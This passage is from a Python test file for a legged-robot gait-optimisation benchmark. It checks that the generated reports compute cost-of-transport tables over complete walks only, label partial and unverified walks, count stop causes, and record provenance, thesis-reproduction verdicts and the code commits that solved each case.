            "transcription": "hermite-simpson", "solver": "ipopt", "strategy": "one-phase", "repetition": 0,
            "wall_time_s": 1.0, "iterations": 10, "message": ""}
    complete = {"status": "solved", "stop_cause": "complete", "retries": 0, "steps_solved": 2,
                "max_defect": 1e-10, "max_resim_error": 1e-6, "verified": True}
    partial = {"status": "incomplete", "acot": None, "steps_solved": 1, "max_defect": 0.5, "max_resim_error": 0.5}
    rows = [
        {"method": "OP-DC", "N": 8, "acot": 0.30, "cot_steps": [0.20, 0.40], "cot_min": 0.20, "cot_max": 0.40,
         "retries": 1, **{k: v for k, v in complete.items() if k != "retries"}},
        {"method": "OP-DC", "N": 8, "repetition": 1, **partial, "cot_steps": [0.01, None], "cot_min": 0.01,
         "cot_max": 0.01, "stop_cause": "solver", "stop_step": 2, "stop_status": "iteration_limit", "retries": 3,
         "message": "step 2: iteration_limit: too many iterations"},
        {"method": "OP-DC", "N": 10, **partial, "cot_steps": [0.02, None], "cot_min": 0.02, "cot_max": 0.02,
         "stop_cause": "geometry", "stop_step": 2, "stop_status": "infeasible_geometry", "retries": 0,
         "message": "step 2: stance angle at heel strike below the lower angle bound"},
        {"method": "OP-DM", "transcription": "dmoc", "N": 8, "acot": 0.50, "cot_steps": [0.5, 0.5], "cot_min": 0.5,
         "cot_max": 0.5, **complete},
        {"method": "OP-DM", "transcription": "dmoc", "N": 10, "acot": 0.45, "cot_steps": [0.45, 0.45],
         "cot_min": 0.45, "cot_max": 0.45, **complete},
        {"method": "OP-DM", "transcription": "dmoc", "N": 10, "repetition": 1, **partial, "cot_steps": [0.03, None],
         "cot_min": 0.03, "cot_max": 0.03, "message": "step 2: infeasible: locally infeasible"},  # no stop columns
    ]
    with ResultStore.create(directory) as store:
        store.start_run({"run_id": "r1", "suite": "synthetic", "started_at": "2026-01-01T00:00:00+00:00"})
        for i, row in enumerate(rows):
            store.record_case(base | row | {"case_key": f"{i:016x}"})
    return directory


def test_acot_is_over_complete_walks_and_partial_walks_are_labelled(tmp_path):
    store = _synthetic_store(tmp_path / "synthetic")
    report = build_report(store)
    acot = report.tables["acot"].set_index(["method", "N"])
    # The partial walks' cheap steps (0.01, 0.02, 0.03) are in no ACOT, bound or minimum.
    assert acot.loc[("OP-DC", 8), "acot"] == pytest.approx(0.30)
    assert acot.loc[("OP-DC", 8), "cot_min"] == pytest.approx(0.20)
    assert acot.loc[("OP-DC", 8), "max_defect"] == pytest.approx(1e-10)
    assert math.isnan(acot.loc[("OP-DC", 10), "acot"]) and math.isnan(acot.loc[("OP-DC", 10), "cot_min"])
    assert acot.loc[("OP-DM", 10), "acot"] == pytest.approx(0.45)
    assert acot["completion_rate"].to_dict() == {("OP-DC", 8): 0.5, ("OP-DC", 10): 0.0, ("OP-DM", 8): 1.0,
                                                 ("OP-DM", 10): 0.5}
    assert acot.loc[("OP-DC", 8), "retries"] == 4
    minima = report.tables["acot_minima"].set_index("method")
    assert minima.loc["OP-DC", "min_acot"] == pytest.approx(0.30) and minima.loc["OP-DC", "N_at_min"] == 8
    assert report.tables["cot_bounds"]["cot_min"].min() == pytest.approx(0.20)
    # Stop causes, counted per experiment, method and cause; the row stored without one is "unrecorded".
    causes = report.tables["stop_causes"]
    counted = {(r.method, r.stop_cause): (r.cases, r.N, r.stop_steps, r.stop_statuses, r.retries)
               for r in causes.itertuples()}
    assert counted == {("OP-DC", "complete"): (1, "8", "", "", 1),
                       ("OP-DC", "solver"): (1, "8", "2", "iteration_limit", 3),
                       ("OP-DC", "geometry"): (1, "10", "2", "infeasible_geometry", 0),
                       ("OP-DM", "complete"): (2, "8, 10", "", "", 0),
                       ("OP-DM", "unrecorded"): (1, "10", "", "", 0)}
    # A partial walk's own figure is shown only as partial_acot, in the per-case tables.
    failed = report.tables["failed_cases"].set_index("N")
    assert failed.loc[8, "partial_acot"] == pytest.approx(0.01) and failed.loc[8, "stop_cause"] == "solver"
    cases = report.tables["cases"]
    assert cases["partial_acot"].notna().sum() == 3 and cases.loc[cases["partial_acot"].notna(), "acot"].isna().all()
    assert cases.loc[cases["status"] != "solved", "cot_min"].isna().all()

    out = write_report(store, tmp_path / "out")
    html = out.read_text()
    for element in ("fig-acot-forward", "fig-completion-forward", "tbl-stop-causes-forward", 'id="stop-causes"',
                    "partial_acot", "4 solve retries in all"):
        assert element in html, element
    row = html.index('class="figure-row"')
    assert row < html.index('id="fig-acot-forward"') < html.index('id="fig-completion-forward"') < html.index(
        "</div>", row)  # the completion figure beside the ACOT figure
    assert "0.01" not in pd.read_csv(tmp_path / "out" / "acot.csv").to_csv()
    written = pd.read_csv(tmp_path / "out" / "stop_causes.csv")
    assert list(written.columns) == tables.STOP_CAUSE_COLUMNS and len(written) == 5


def _with_op_dc_at_8(store: Path, copy: Path, assignments: str) -> str:
    """A copy of ``store`` whose N = 8 OP-DC case has the columns ``assignments`` sets; that case's key."""
    shutil.copytree(store, copy)
    with sqlite3.connect(copy / "results.sqlite") as db:
        (key,) = db.execute("SELECT case_key FROM cases WHERE method = 'OP-DC' AND N = 8").fetchone()
        db.execute(f"UPDATE cases SET {assignments} WHERE case_key = ?", (key,))
    return key


def test_a_partial_gait_chosen_by_hand_is_labelled_partial(store, tmp_path):
    """The real store's failed reference case has no walk; a copy with one N = 8 OP-DC case marked as stopped shows
    its gait labelled partial and without an ACOT."""
    copy = tmp_path / "partial"
    key = _with_op_dc_at_8(store, copy, "status = 'incomplete', stop_cause = 'solver', stop_step = 2, "
                                        "stop_status = 'infeasible', message = 'step 2: infeasible'")
    report = build_report(copy, gait=key)
    (section,) = report.gaits
    assert section.gait.partial and "partial walk" in section.gait.label and section.gait.acot is None
    assert section.gait.notes[0].startswith("Partial walk: it stopped at step 2 (solver;")
    assert all("partial walk" in figure.title for figure in section.figures)
    assert key not in set(report.tables["acot"].get("case_key", []))
    assert tables.chosen_gaits(report.cases)["forward [1 step]"] != key


def test_an_unverified_gait_chosen_by_hand_is_labelled_and_never_called_verified(store, tmp_path):
    """A complete walk that failed verification, shown with ``--gait``: its label, its first note and its page say
    so, with the reason, and its ACOT is shown as unranked, not as a verified figure."""
    copy = tmp_path / "unverified"
    key = _with_op_dc_at_8(store, copy, "verified = 0, "
                                        "verification_failure = 'step 2: re-simulation error 0.9 > 0.5'")
    report = build_report(copy, gait=key)
    (section,) = report.gaits
    assert "unverified walk" in section.gait.label and section.gait.acot is None
    assert section.gait.unranked_acot is not None and section.gait.unranked_acot > 0
    assert section.gait.notes[0].startswith("Unverified walk: step 2: re-simulation error 0.9 > 0.5.")
    html = write_report(copy, tmp_path / "out", gait=key).read_text()
    assert "not verified (ACOT" in html
    heading = html[html.index(f'id="gait-{key}'):]
    assert "verified ACOT" not in heading[:heading.index("</p>")]


def test_provenance_lists_the_plugins_that_failed_to_load():
    runs = [{"run_id": "r1", "provenance": {"python": "3.11", "plugin_problems": [
        {"source": "/p/gentle_slope.py", "message": "import failed: ImportError: half-finished plugin"}]}},
            {"run_id": "r2", "provenance": {"python": "3.11", "plugin_problems": []}}]
    table = tables.provenance_table(runs)
    problems = table[table["item"] == "plugin_problems"]
    assert problems.to_dict("records") == [
        {"run_id": "r1", "item": "plugin_problems",
         "value": "/p/gentle_slope.py: import failed: ImportError: half-finished plugin"},
        {"run_id": "r2", "item": "plugin_problems", "value": "none"}]


def test_provenance_shows_the_cpu_and_its_vector_extensions_as_one_row_each():
    runs = [{"run_id": "r1", "provenance": {"cpu": "Intel(R) Xeon(R) Processor",
                                            "vector_extensions": ["AVX512F", "AVX2"]}}]
    table = tables.provenance_table(runs).set_index("item")["value"]
    assert table["cpu"] == "Intel(R) Xeon(R) Processor" and table["vector_extensions"] == "AVX512F AVX2"


def test_each_thesis_cell_gets_a_verdict():
    base = {"method": "OP-DC", "published_acot": 0.20, "bound_acot": 0.10, "published_below_bound": False,
            "claimed_acot": math.nan, "thesis_reading_acot": math.nan}
    assert tables.verdict(base | {"acot": 0.21, "difference_percent": 5.0}) == "reproduced"
    below = tables.verdict(base | {"published_below_bound": True, "bound_acot": 0.5, "acot": 0.6})
    assert below == "published figure below the physical bound 0.5000: no walk can cost that little"
    between = tables.verdict(base | {"published_below_bound": True, "bound_acot": 0.5, "acot": 0.6,
                                     "published_below_thesis_push_off_bound": False,
                                     "thesis_push_off_bound_acot": 0.15})
    assert between == ("published figure below the physical bound 0.5000: no walk can cost that little with its "
                       "push-off charged at the energy the push-off gives the robot; the thesis's push-off term "
                       "(3.77) would allow down to 0.1500")
    missed = tables.verdict(base | {"acot": 0.30, "difference_percent": 50.0, "claimed_acot": 0.25,
                                    "thesis_reading_acot": 0.22})
    assert missed == ("not reproduced: our verified minimum 0.3000 (+50.0 %), claimed 0.2500, read the thesis's way "
                      "0.2200")
    assert tables.verdict(base | {"acot": math.nan}) == "not reproduced: no verified walk of this method"
    assert tables.verdict(base | {"method": None, "acot": math.nan}) == "not run in this store"


def test_the_report_says_how_many_versions_of_the_code_solved_its_cases():
    frame = pd.DataFrame({"method": ["OP-DC", "OP-DM", "D&C-DC", "OP-DC"],
                          "finished_at": ["2026-01-03", "2026-01-01", "2026-01-02", "2026-01-04"],
                          "provenance": [{"git_commit": "b" * 40}, {"git_commit": "a" * 40}, {"git_commit": "a" * 40},
                                         None]})
    table = tables.case_commits(frame)
    assert table.to_dict("records") == [
        {"git_commit": "a" * 40, "cases": 2, "methods": "D&C-DC, OP-DM", "first_finished": "2026-01-01",
         "last_finished": "2026-01-02"},
        {"git_commit": "b" * 40, "cases": 1, "methods": "OP-DC", "first_finished": "2026-01-03",
         "last_finished": "2026-01-03"},
        {"git_commit": "unknown", "cases": 1, "methods": "OP-DC", "first_finished": "2026-01-04",
         "last_finished": "2026-01-04"}]
    assert tables.case_commits(frame.iloc[:0]).empty


def test_the_opening_names_the_one_commit_that_solved_every_case(report_dir):
    commits = pd.read_csv(report_dir / "case_commits.csv")
    assert len(commits) == 1
    html = (report_dir / "index.html").read_text()
    commit = commits["git_commit"][0]
    shown = commit[:12] + ("+dirty" if commit.endswith("+dirty") else "")  # a checkout with changes says so
    assert f"Every case was solved by one commit, <code>{shown}</code>." in html
    assert 'id="tbl-case-commits"' in html


def test_a_gait_whose_stance_foot_pulls_on_the_ground_says_so():
    """The reaction normal to each step's chord (on a slope, not the vertical): a foot on the ground can only push.
    Step 2 climbs at 45°: (−400, −100) N pulls down but pushes out of the slope (normal +212 N), no pull; step 1's
    −0.2 body weights are one."""
    from types import SimpleNamespace

    from gaitbench.reports.gait import _pulling_note

    weight = 800.0
    footholds = np.array([[0.0, 0.0], [1.0, 0.0], [2.0, 1.0]])
    steps = [SimpleNamespace(index=1, reaction=np.array([[0.0, 800.0], [0.0, -160.0]])),
             SimpleNamespace(index=2, reaction=np.array([[-400.0, -100.0], [0.0, 800.0]]))]
    note = _pulling_note(steps, footholds, weight)
    assert note.startswith("Contact: the stance foot pulls on the ground at 1 of 4 nodes, down to 0.20 body weights "
                           "(step 1)")
    assert "solved with `unilateral_contact`" in _pulling_note(steps, footholds, weight, held=True)
    steps[0].reaction[1, 1] = -1e-4  # a constraint held to a solver's tolerance is no pull
    assert _pulling_note(steps, footholds, weight) is None


def test_the_ground_under_a_step_is_found_for_a_labelled_experiment():
    """The consistency table names how the ground bends under the dearest step; a shortened walk's label
    (``stairs [4 steps]``) is not a plugin name, and left the column empty."""
    from gaitbench.reports import _stance_ground

    df = pd.DataFrame({"experiment": ["stairs [4 steps]"], "experiment_name": ["stairs"], "experiment_options": [{}]})
    ground = _stance_ground(None, df)
    assert ground("stairs [4 steps]", 3) == ground("stairs", 3) == "dips"
